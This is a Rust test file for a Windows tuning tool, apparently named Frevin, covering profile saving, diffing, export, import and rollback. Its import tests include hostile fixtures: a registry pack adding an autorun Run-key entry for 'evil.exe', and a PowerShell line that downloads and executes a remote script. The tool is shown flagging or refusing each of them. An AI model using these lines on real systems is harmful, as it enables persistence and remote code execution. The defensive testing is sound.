//! Profiles that build on others, go out and come in, and those that come with Frevin.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "a test may fail")]

mod common;

use common::Place;
use insta::assert_snapshot;

const TOP: &str = r#"format = 1
name = "top"
purpose = "On top of another"
builds_on = ["evening"]
without = ["recording/background"]

[[tweaks]]
use = "looks/menu-delay"
with = { delay_ms = 5 }
note = "Quicker still."
"#;

fn tweaks_of(plan: &serde_json::Value) -> Vec<String> {
    let steps = plan["steps"].as_array().unwrap();
    let mut tweaks: Vec<String> =
        steps.iter().map(|step| step["tweak"].as_str().unwrap().to_owned()).collect();
    tweaks.sort();
    tweaks.dedup();
    tweaks
}

#[test]
fn a_profile_stands_on_another_as_that_was_when_it_was_saved() {
    let place = Place::with_evening();
    place.write("top.toml", TOP);
    place.run(&["profile", "save", "top.toml"]).ok();
    let preview = || tweaks_of(&place.json(&["preview", "top"]));
    let expected =
        ["looks/menu-delay", "memory/large-file-cache", "power/active-plan", "services/prefetch"];
    assert_eq!(preview(), expected);
    // What it stands on changes; the revision does not.
    let other = common::EVENING.replace("[[tweaks]]\nuse = \"services/prefetch\"\n", "");
    place.write("evening.toml", other);
    place.run(&["profile", "save", "evening.toml"]).ok();
    assert_eq!(preview(), expected);
    let saved = place.run(&["profile", "save", "top.toml"]).ok();
    assert!(saved.out.contains("top@2"), "{}", saved.out);
    assert!(!preview().contains(&"services/prefetch".to_owned()));
    assert_eq!(place.run(&["profile", "show", "top"]).ok().out.trim(), TOP.trim());
}

#[test]
fn profiles_are_compared_by_what_they_want() {
    let place = Place::with_evening();
    place.write("top.toml", TOP);
    place.run(&["profile", "save", "top.toml"]).ok();
    assert_snapshot!(place.run(&["profile", "diff", "evening", "top"]).fails(1).out, @"
    4 settings differ between evening and top on Test desktop.
      setting                             first                     second
      GameDVR › AllowGameDVR              0 (recording/background)  leaves it alone
      GameDVR › AppCaptureEnabled         0 (recording/background)  leaves it alone
      GameDVR › HistoricalCaptureEnabled  0 (recording/background)  leaves it alone
      menu delay                          50 ms (looks/menu-delay)  5 ms (looks/menu-delay)
    ");
    assert_snapshot!(place.run(&["profile", "diff", "top", "top@1"]).ok().out, @"top and top@1 want the same on Test desktop.");
    let json = place.json(&["profile", "diff", "careful", "balanced"]);
    assert!(json["settings"].as_array().unwrap().len() > 10);
}

#[test]
fn a_profile_goes_out_with_nothing_private_and_comes_in_elsewhere() {
    let place = Place::with_evening();
    let private = TOP.replace(
        "Quicker still.",
        "Ida Berg's wish, mail ida@example.org, see C:\\\\Users\\\\Ida Berg\\\\x on Test desktop",
    );
    place.write("top.toml", private);
    place.run(&["profile", "save", "top.toml"]).ok();
    let said = place.run(&["profile", "export", "top", "--file", "out.toml"]).ok();
    assert_snapshot!(said.out, @"
    Done. Written to out.toml.
    taken out as private: Ida Berg
    taken out as private: Test desktop
    taken out as private: ida@example.org
    ");
    let text = fs_err::read_to_string(place.path().join("out.toml")).unwrap();
    for word in ["Users\\\\Ida", "example.org", "Test desktop"] {
        assert!(!text.contains(word), "{text}");
    }
    place.run(&["profile", "import", "out.toml"]).fails(4);
    place.run(&["profile", "import", "out.toml", "--name", "theirs"]).ok();
    let both = place.run(&["profile", "diff", "top", "theirs"]).ok();
    assert!(both.out.contains("want the same"), "{}", both.out);
    place.run(&["profile", "export", "top", "--file", "out.toml"]).fails(4);
}

const PACK: &[u8] = b"REGEDIT4\r\n\r\n[HKEY_CURRENT_USER\\Control Panel\\Mouse]\r\n\"MouseSpeed\"=\"0\"\r\n\"MouseThreshold1\"=\"0\"\r\n\"MouseThreshold2\"=\"0\"\r\n\r\n[HKEY_CURRENT_USER\\SOFTWARE\\Made Up]\r\n\"Caf\xE9\"=\"b\"\r\n\"Odd\"=hex(1000b):01,\\\r\n  02\r\n\r\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"Evil\"=\"evil.exe\"\r\n";

#[test]
fn a_strangers_registry_pack_is_named_graded_guarded_and_reversible() {
    let place = Place::new();
    let first = place.pc_files();
    place.write("Best Pack 2026.reg", PACK);
    assert_snapshot!(place.run(&["profile", "import", "Best Pack 2026.reg"]).ok().out, @r#"
    Done. Saved as best-pack-2026@1 933d72cc45.

    The catalogue knows
      tweak                       title                          standing   from
      input/pointer-acceleration  Switch pointer acceleration    plausible  Best Pack 2026.reg:4, Best
                                  off                                       Pack 2026.reg:5, Best Pack
                                                                            2026.reg:6

    Kept as plain settings, which nobody has checked
      Best Pack 2026.reg:14 registry:HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run#Evil = "evil.exe"
        protected: it can make Windows run any program
      Best Pack 2026.reg:9 registry:HKCU\SOFTWARE\Made Up#Café = "b"
      Best Pack 2026.reg:10 registry:HKCU\SOFTWARE\Made Up#Odd = type 65547: 01 02

    The profile leaves imported/best-pack-2026-protected out: it touches what is protected.
    Look at it before you apply it: frevin preview best-pack-2026
    "#);
    place.run(&["profile", "import", "Best Pack 2026.reg"]).fails(4);
    place.run(&["apply", "best-pack-2026", "--yes"]).ok();
    let applied = fs_err::read_to_string(place.pc().join("settings/registry.json")).unwrap();
    assert!(applied.contains("65547") && applied.contains("Café"));
    assert!(!applied.contains("Evil"));
    place.run(&["rollback", "--all", "--yes"]).ok();
    assert_eq!(place.pc_files(), first);
    let guarded = "imported/best-pack-2026-protected";
    place.run(&["apply", "--tweak", guarded, "--yes"]).fails(5);
    assert_eq!(place.pc_files(), first);

    // What goes out as registry text comes in again as the same.
    let export = ["profile", "export", "best-pack-2026", "--as-registry", "--file", "again.reg"];
    place.run(&export).ok();
    place.run(&["profile", "import", "again.reg"]).ok();
    place.run(&["profile", "diff", "best-pack-2026", "again"]).ok();
}

#[test]
fn a_strangers_script_is_read_and_never_run() {
    let place = Place::new();
    let mark = place.path().join("it-was-run");
    let script = format!(
        "@echo off\r\necho x > {mark}\r\ntouch {mark}\r\nsc config SysMain start= disabled\r\n\
         reg add \"HKCU\\Made Up\" /v Depth /t REG_DWORD /d 7 /f\r\nbcdedit /set disabledynamictick yes\r\n\
         powercfg /setactive 8c5e7fda-e8bf-4a96-9a85-a6e23a8c635c\r\n\
         reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate /v x /t REG_DWORD /d 1 /f\r\n\
         if exist C:\\x del C:\\x\r\n",
        mark = mark.display()
    );
    place.write("Big Boost.bat", script);
    let first = place.pc_files();
    let said = place.run(&["profile", "import", "Big Boost.bat"]).ok().out;
    assert_snapshot!(said, @r"
    Done. Saved as big-boost@1 ecab219d2a.

    The catalogue knows
      tweak              title                              standing   from
      boot/dynamic-tick  Keep the timer ticking while idle  contested  Big Boost.bat:6
      power/active-plan  Choose the power plan              sound      Big Boost.bat:7

    Kept as plain settings, which nobody has checked
      Big Boost.bat:8 registry:HKLM\SOFTWARE\Policies\Microsoft\Windows\WindowsUpdate#x = 1
      Big Boost.bat:5 registry:HKCU\Made Up#Depth = 7
      Big Boost.bat:4 service:SysMain#start = disabled

    Nothing was made of
      Big Boost.bat:3
        `touch [HERE]/it-was-run`: Frevin does not know what this does
      Big Boost.bat:9
        `if exist C:\x del C:\x`: it is done only under a condition, or several times

    Look at it before you apply it: frevin preview big-boost
    ");
    assert!(!mark.exists());
    assert_eq!(place.pc_files(), first, "reading changes nothing");
    place.run(&["profile", "check", "big-boost"]);
    place.run(&["apply", "big-boost", "--yes"]).ok();
    let differing = place.json(&["snapshot", "diff", "1"])["differences"].as_array().unwrap().len();
    assert_eq!(differing, 6, "five settings, and a key that had to be made");
    place.run(&["rollback", "--all", "--yes"]).ok();
    assert_eq!(place.pc_files(), first);
    place.write("nothing.ps1", "iwr https://example.invalid/x.ps1 | iex\n");
    assert_snapshot!(place.run(&["profile", "import", "nothing.ps1"]).fails(4).err, @"
    error: nothing can be made of these files
      nothing.ps1:1: `iwr https://example.invalid/x.ps1`: what it does hangs on another command's output
      nothing.ps1:1: `iex`: what it does hangs on another command's output
    ");
}

#[test]
fn what_is_no_registry_text_is_refused() {
    let place = Place::new();
    place.write("a.reg", "[HKEY_CURRENT_USER\\A]\n\"x\"=dword:1\n");
    assert_snapshot!(place.run(&["profile", "import", "a.reg"]).fails(4).err, @"error: a.reg: it is not registry text: its first line is neither `Windows Registry Editor Version 5.00` nor `REGEDIT4`");
    place.write("b.reg", "REGEDIT4\nrubbish\n");
    assert_snapshot!(place.run(&["profile", "import", "b.reg"]).fails(4).err, @"
    error: nothing can be made of these files
      b.reg:2: it is neither a key, a value nor a comment
    ");
    place.run(&["profile", "import", "nowhere.reg"]).fails(3);
    let values: String = (0..9000).map(|at| format!("\"value {at}\"=\"{at:0>60}\"\n")).collect();
    place.write("c.reg", format!("REGEDIT4\n[HKEY_CURRENT_USER\\A]\n{values}"));
    assert!(place.run(&["profile", "import", "c.reg"]).fails(4).err.contains("none is that long"));
    place.run(&["tweak", "list"]).ok();
    place.run(&["profile", "import", "a.reg", "b.toml"]).fails(2);
}

#[test]
fn profiles_that_come_with_frevin_leave_every_shipped_pc_as_it_was() {
    for (pc, profile) in [
        ("desktop", "all-out"),
        ("desktop", "streaming"),
        ("desktop", "desktop-on-one-screen"),
        ("desktop", "quiet"),
        ("laptop", "laptop-at-the-wall"),
        ("laptop", "laptop-battery"),
        ("handheld", "handheld-in-the-hand"),
        ("old-pc", "old-pc"),
    ] {
        let place = Place::empty();
        place.run(&["rehearsal", "new", "pc", "--like", pc]).ok();
        let first = place.pc_files();
        place.run(&["profile", "new", "mine", "--from", profile]).ok();
        place.run(&["profile", "check", "mine.toml"]).ok();
        place.run(&["profile", "save", "mine.toml"]).ok();
        place.run(&["apply", "mine", "--yes"]).ok();
        assert_ne!(place.pc_files(), first, "{pc} {profile}");
        place.run(&["drift"]).ok();
        place.run(&["rollback", "--all", "--yes"]).ok();
        assert_eq!(place.pc_files(), first, "{pc} {profile}");
    }
}

#[test]
fn inspecting_finds_other_things_wrong_with_each_shipped_pc() {
    let found = |pc: &str| -> Vec<String> {
        let place = Place::empty();
        place.run(&["rehearsal", "new", "pc", "--like", pc]).ok();
        let report = place.json(&["inspect"]);
        assert_eq!(report["untold"].as_array().unwrap().len(), 0);
        let found = report["found"].as_array().unwrap();
        found.iter().map(|one| one["id"].as_str().unwrap().to_owned()).collect()
    };
    assert_snapshot!(found("desktop").join(" "), @"display-below-its-rate display-below-its-rate memory-below-its-speed recording-behind-the-game small-graphics-window");
    assert_snapshot!(found("laptop").join(" "), @"display-below-its-rate game-on-frugal-graphics clock-sags recording-behind-the-game much-starts-with-the-pc on-battery");
    assert_snapshot!(found("handheld").join(" "), @"display-below-its-rate clock-sags recording-behind-the-game drive-almost-full little-memory-for-graphics on-battery");
    assert_snapshot!(found("old-pc").join(" "), @"memory-below-its-speed platform-clock no-page-file recording-behind-the-game windows-files-broken drive-almost-full device-with-error old-graphics-driver slow-cable much-starts-with-the-pc old-file-sharing");
}

#[test]
fn what_is_done_by_hand_is_checked_afterwards() {
    let place = Place::new();
    let window = ["preview", "--tweak", "firmware/large-graphics-window"];
    let said = place.run(&window).ok();
    let (danger, to_do) = (said.out.find("Before anything else"), said.out.find("[ ] to do"));
    assert!(danger.unwrap() < to_do.unwrap(), "the gravest danger comes first: {}", said.out);
    place.run(&["rehearsal", "mend", "small-graphics-window"]).ok();
    let said = place.run(&window).ok();
    assert!(said.out.contains("[x] done  firmware/large-graphics-window"), "{}", said.out);
    assert!(!said.out.contains("Before anything else"), "{}", said.out);
    let json = place.json(&["apply", "--tweak", "firmware/large-graphics-window", "--yes"]);
    assert_eq!(json["by_hand"][0]["is_done"], true);
    let json = place.json(&["preview", "--tweak", "firmware/memory-profile"]);
    assert_eq!(json["by_hand"][0]["is_done"], serde_json::Value::Null, "no fact tells it");
    assert!(json["dangers"][0]["first"].as_str().unwrap().contains("recovery key"), "{json}");
}

#[test]
fn tweaks_are_found_by_area_risk_standing_and_words() {
    let place = Place::new();
    let listed = |args: &[&str]| -> Vec<String> {
        let report = place.json(&[&["tweak", "list"], args].concat());
        let tweaks = report["tweaks"].as_array().unwrap();
        tweaks.iter().map(|tweak| tweak["id"].as_str().unwrap().to_owned()).collect()
    };
    assert!(listed(&[]).len() >= 130);
    assert_eq!(
        listed(&["--search", "run displays at their HIGHEST"]),
        ["graphics/highest-refresh"]
    );
    assert_eq!(listed(&["--search", "win32priorityseparation"]), ["cpu/foreground-share"]);
    assert!(listed(&["--standing", "no-effect"]).contains(&"boot/processor-count".to_owned()));
    let harmful = listed(&["--standing", "harmful", "--area", "storage"]);
    assert_eq!(harmful, ["storage/scheduled-care", "storage/write-cache-flushing"]);
    assert_eq!(
        listed(&["--risk", "expert", "--area", "looks"]),
        ["looks/folder-type", "looks/full-context-menu"]
    );
    for (word, tweak) in [
        ("HAGS", "graphics/self-scheduling"),
        ("vbs", "security/memory-integrity"),
        ("nagle", "network/send-at-once"),
        ("resizable bar", "firmware/large-graphics-window"),
        ("enhance pointer precision", "input/pointer-acceleration"),
        ("superfetch", "services/prefetch"),
        ("debloat", "startup/entries"),
        ("restore point", "safety/restore-points"),
    ] {
        let found = listed(&["--search", word]);
        assert!(found.contains(&tweak.to_owned()), "{word}: {found:?}");
    }
    assert_eq!(listed(&["--search", "mpo"]), ["graphics/overlay-planes"], "whole words only");
    place.run(&["tweak", "list", "--risk", "some"]).fails(2);
}

#[test]
fn a_tweaks_page_tells_what_was_measured_of_it() {
    let place = Place::with_evening();
    let shown = || place.json(&["tweak", "show", "power/active-plan"])["measured"].clone();
    assert_eq!(shown()["visits_with"], 0);
    let record = |state: &str| {
        let args = ["run", "record", "--scene", "canyon-run", "--state", state];
        place.run(&[&args[..], &["--runs", "3", "--seconds", "5"]].concat()).ok();
    };
    record("before");
    place.run(&["apply", "--tweak", "power/active-plan", "--yes"]).ok();
    record("after");
    let measured = shown();
    assert_eq!((&measured["visits_with"], &measured["visits_without"]), (&1.into(), &1.into()));
    assert_eq!(measured["comparisons"][0]["verdict"], "undecided");
}

#[test]
fn tweaks_are_added_and_removed_by_command_and_all_else_of_a_profile_stays() {
    let place = Place::with_evening();
    place.write("top.toml", TOP.replace("# ", "").replace("note =", "# Why:\nnote ="));
    place.run(&["profile", "save", "top.toml"]).ok();
    let add = ["profile", "add", "top", "--tweak", "input/key-shortcuts", "--tweak"];
    let plan = ["power/active-plan", "--set", "power/active-plan:plan=high-performance"];
    let saved = place.json(&[&add[..], &plan, &["--note", "to try"]].concat());
    assert_eq!(saved["revision"]["number"], 2, "{saved}");
    assert_eq!(saved["revision"]["message"], "added input/key-shortcuts, power/active-plan");
    let text = place.run(&["profile", "show", "top"]).ok().out;
    assert!(text.contains("# Why:"), "{text}");
    assert_snapshot!(&text[text.find("[[tweaks]]\nuse = \"input").unwrap()..], @r#"
    [[tweaks]]
    use = "input/key-shortcuts"
    note = "to try"

    [[tweaks]]
    use = "power/active-plan"
    with = { plan = "high-performance" }
    note = "to try"
    "#);
    let again = place.run(&["profile", "add", "top", "--tweak", "input/key-shortcuts"]).fails(4);
    assert!(again.err.contains("top@2 has `input/key-shortcuts`"), "{}", again.err);
    // One of its own, and one of the profile that it builds on.
    let remove = ["profile", "remove", "top", "--tweak", "looks/menu-delay", "--tweak"];
    place.run(&[&remove[..], &["services/prefetch"]].concat()).ok();
    let text = place.run(&["profile", "show", "top"]).ok().out;
    let without = r#"without = ["recording/background", "looks/menu-delay", "services/prefetch"]"#;
    assert!(text.contains(without) && !text.contains("delay_ms"), "{text}");
    let none = place.run(&["profile", "remove", "top", "--tweak", "services/prefetch"]).fails(3);
    assert!(none.err.contains("top@3 has no `services/prefetch`"), "{}", none.err);
}

#[test]
fn a_deleted_profile_is_meant_no_more_and_what_was_applied_stays_known() {
    let place = Place::with_evening();
    place.run(&["apply", "evening", "--yes"]).ok();
    place.run(&["play", "games", "add", "riders.exe", "--profile", "evening"]).ok();
    let held = place.run(&["profile", "delete", "evening"]).fails(5);
    assert!(held.err.contains("is held whenever riders runs"), "{}", held.err);
    place.run(&["play", "games", "remove", "riders"]).ok();
    place.run(&["profile", "delete", "evening"]).ok();
    assert!(!place.run(&["profile", "list"]).ok().out.contains("evening"));
    place.run(&["profile", "delete", "evening"]).fails(3);
    place.run(&["preview", "evening"]).fails(3);
    assert_eq!(
        place.run(&["profile", "show", "evening@1"]).ok().out.trim(),
        common::EVENING.trim()
    );
    // Saved again, it goes on with its numbers, and is there again also where nothing is new.
    place.run(&["profile", "save", "evening.toml"]).ok();
    place.run(&["profile", "delete", "evening"]).ok();
    place.run(&["profile", "remove", "evening", "--tweak", "looks/menu-delay"]).fails(3);
    place.write("evening.toml", common::EVENING.replace("Smooth frames", "Smoother frames"));
    let saved = place.json(&["profile", "save", "evening.toml"]);
    assert_eq!(saved["revision"]["number"], 2, "{saved}");
}

#[test]
fn what_comes_with_frevin_is_previewed_applied_and_tried_by_its_name() {
    let place = Place::new();
    let preview = place.run(&["preview", "careful"]).ok();
    assert!(preview.out.contains("careful (comes with Frevin)"), "{}", preview.out);
    assert!(!place.run(&["profile", "list"]).ok().out.contains("careful"));
    let applied = place.json(&["apply", "careful", "--yes"]);
    assert_eq!(applied["title"], "careful@1", "{applied}");
    // What was applied is kept as it was, and stays Frevin's.
    let kept = place.json(&["profile", "log", "careful"]);
    assert!(kept["revisions"][0]["message"].as_str().unwrap().starts_with("as it comes with"));
    for deed in [&["add"][..], &["remove"], &["delete"]] {
        let tweak: &[&str] =
            if deed == ["delete"] { &[] } else { &["--tweak", "looks/menu-delay"] };
        let said = place.run(&[&["profile"], deed, &["careful"], tweak].concat()).fails(5);
        assert!(said.err.contains("profile new mine --from careful"), "{}", said.err);
    }
    // An owner's own profile of that name is the one meant.
    place.run(&["rollback", "--all", "--yes"]).ok();
    place.write("careful.toml", common::EVENING.replace("\"evening\"", "\"careful\""));
    place.run(&["profile", "save", "careful.toml"]).ok();
    let applied = place.json(&["apply", "careful", "--yes"]);
    assert_eq!(applied["title"], "careful@2", "{applied}");
}

#[test]
fn several_tweaks_are_one_change() {
    let place = Place::new();
    let two = ["--tweak", "looks/menu-delay", "--tweak", "power/active-plan"];
    let of = |more: &[&str]| place.run(&[&["apply", "--yes"], &two[..], more].concat());
    let unclear = of(&["--set", "delay_ms=9"]).fails(2);
    assert!(unclear.err.contains("--set looks/menu-delay:delay_ms=9"), "{}", unclear.err);
    let unnamed = of(&["--set", "looks/transparency:on=true"]).fails(2);
    assert!(unnamed.err.contains("not named with --tweak"), "{}", unnamed.err);
    let unknown = of(&["--set", "looks/menu-delay:rate=1"]).fails(4);
    assert!(unknown.err.contains("has no parameter `rate`: it has delay_ms"), "{}", unknown.err);
    let twice = of(&["--tweak", "looks/menu-delay"]).fails(2);
    assert!(twice.err.contains("is named twice"), "{}", twice.err);
    of(&["--set", "looks/menu-delay:delay_ms=9"]).ok();
    let status = place.json(&["status"]);
    assert_eq!(status["in_force"][0]["title"], "looks/menu-delay, power/active-plan", "{status}");
    assert_eq!(status["in_force"][0]["settings"], 2);
}
